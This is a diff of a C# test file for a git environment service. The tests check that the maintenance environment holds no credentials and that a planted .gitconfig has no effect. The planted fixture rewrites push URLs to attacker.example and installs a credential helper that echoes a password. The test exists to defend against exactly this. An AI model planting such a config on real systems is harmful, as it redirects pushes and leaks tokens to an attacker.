@@ -4,7 +4,7 @@ using ClaudeHooks.Workdir;
 
 namespace ClaudeHooks.Tests.Workdir;
 
-/// <summary>The service's git environment, driven through the real git credential protocol on this machine.</summary>
+/// <summary>The service's git environment, driven through the real git credential protocol on this machine: it holds no secret and answers none.</summary>
 public sealed class GitEnvironmentTests : IDisposable
 {
     private readonly TempDirectory _home = new();
@@ -12,15 +12,15 @@ public sealed class GitEnvironmentTests : IDisposable
     public void Dispose() => _home.Dispose();
 
     [Fact]
-    public async Task MaintenanceHelper_AnswersOnlyForTheTasksHost()
+    public async Task Maintenance_HasNoCredentialHelper_SoNoHostGetsAPassword()
     {
-        var environment = Maintenance("forge.example:3000");
+        var environment = Maintenance();
 
-        var own = await FillAsync(environment, "http", "forge.example:3000");
+        var own = await FillAsync(environment, "http", "127.0.0.1:7411");
         var other = await FillAsync(environment, "https", "attacker.example");
 
-        Assert.Contains("password=forge-secret-1", own, StringComparison.Ordinal);
-        Assert.DoesNotContain("forge-secret-1", other, StringComparison.Ordinal);
+        Assert.DoesNotContain("password=", own, StringComparison.Ordinal);
+        Assert.DoesNotContain("password=", other, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -29,7 +29,7 @@ public sealed class GitEnvironmentTests : IDisposable
         // What a task could leave in a home directory: a rewrite of every push URL and a helper that leaks the token.
         var planted = Path.Combine(_home.Path, ".gitconfig");
         await File.WriteAllTextAsync(planted, "[url \"http://attacker.example/\"]\n\tinsteadOf = http://forge.example:3000/\n[credential]\n\thelper = \"!f() { echo password=planted; }; f\"\n");
-        var environment = Maintenance("forge.example:3000").Select(e => e.StartsWith("HOME=", StringComparison.Ordinal) ? $"HOME={_home.Path}" : e).ToList();
+        var environment = Maintenance().Select(e => e.StartsWith("HOME=", StringComparison.Ordinal) ? $"HOME={_home.Path}" : e).ToList();
 
         var pushUrl = await GitAsync(environment, null, "ls-remote", "--get-url", "http://forge.example:3000/acme/widgets.git");
         var config = await GitAsync(environment, null, "config", "--show-origin", "--list");
@@ -37,12 +37,10 @@ public sealed class GitEnvironmentTests : IDisposable
 
         Assert.DoesNotContain("attacker", pushUrl, StringComparison.Ordinal);
         Assert.DoesNotContain(planted, config, StringComparison.Ordinal);
-        Assert.Contains("password=forge-secret-1", own, StringComparison.Ordinal);
         Assert.DoesNotContain("planted", own, StringComparison.Ordinal);
     }
 
-    private static List<string> Maintenance(string host) =>
-        ["FORGE_TOKEN=forge-secret-1", .. GitEnvironment.Maintenance(Agent(), host)];
+    private static List<string> Maintenance() => [.. GitEnvironment.Maintenance(Agent(), "task1", "/run/claude-hooks/gateway/p.sock")];
 
     private static AgentConfig Agent() => ConfigLoader.Parse("agents.json", """{ "agents": { "dev": { "role": "dev", "forge_user": "it-dev" } } }""", new ClaudeHooksPaths("/nonexistent")).Agents[0];
 
